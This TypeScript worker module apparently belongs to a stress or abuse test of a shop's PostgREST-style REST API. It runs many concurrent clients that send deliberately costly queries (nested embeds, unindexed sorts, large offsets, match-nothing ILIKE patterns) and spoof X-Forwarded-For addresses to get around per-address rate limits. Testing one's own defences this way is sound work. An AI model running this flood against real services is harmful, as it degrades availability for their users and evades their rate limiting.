import { Agent, get } from 'node:http'
import { setTimeout as wait } from 'node:timers/promises'
import { parentPort, workerData } from 'node:worker_threads'

/** What costly-reads.ts passes to this thread. */
export interface Attack {
  url: string
  publishableKey: string
  clients: number
  /** From how many addresses. */
  addresses: number
}

/** The number of responses by status; `none` without a response. */
export type AttackResult = Record<string, number>

const { url, publishableKey, clients, addresses } = workerData as Attack

const pattern = encodeURIComponent(`${'_%'.repeat(60)}zz`)
/** Embeds that multiply, patterns that match nothing, lists that are large and sorted. */
const review = 'shop_product_reviews(id,rating,title,comment,created_at)'
const reads = [
  `shop_categories?select=*,shop_products(*,${review})&limit=1000`,
  `shop_products?select=*,${review}&limit=900`,
  `shop_products?select=id,${review}&order=description,name,price&limit=999`,
  'shop_categories?select=*,a:shop_products(*),b:shop_products(*),c:shop_products(*)',
  'shop_products?select=*,shop_categories(*,shop_products(*))&limit=1000',
  `shop_products?select=*&or=(${Array.from({ length: 20 }, () => `description.ilike.${pattern}`).join(',')})`,
  'shop_products?select=*&order=description,name,price,slug&limit=1000&offset=2000',
  'shop_products?select=id,slug&order=description,name,price,slug&limit=1000&offset=2000',
  'shop_product_reviews?select=id,comment,shop_products(*)&order=comment,title&limit=1000',
  'shop_product_reviews?select=id,shop_products(name)&order=comment,title&limit=1000&offset=9000',
  'shop_products?select=id,shop_product_reviews!inner(id)&shop_product_reviews.comment=like.*zz*',
]
const answers: AttackResult = {}
const agent = new Agent({ keepAlive: true, maxSockets: clients })
let stopped = false

function read(path: string, address: string): Promise<string> {
  return new Promise((resolve) => {
    const headers = { apikey: publishableKey, 'x-forwarded-for': address }
    get(`${url}/rest/v1/${path}`, { agent, headers }, (answer) => {
      answer.resume()
      answer.on('end', () => resolve(String(answer.statusCode)))
      answer.on('error', () => resolve('none'))
    }).on('error', () => resolve('none'))
  })
}

async function attack(client: number) {
  for (let turn = client; !stopped; turn += 1) {
    const status = await read(reads[turn % reads.length] ?? '', `192.0.2.${client % addresses}`)
    answers[status] = (answers[status] ?? 0) + 1
    // A refused request is repeated at once, but not a thousand times a second.
    if (status !== '200') await wait(50)
  }
}

const done = Promise.all(Array.from({ length: clients }, (_, client) => attack(client)))
parentPort?.once('message', () => {
  stopped = true
  void done.then(() => {
    agent.destroy()
    parentPort?.postMessage(answers)
  })
})
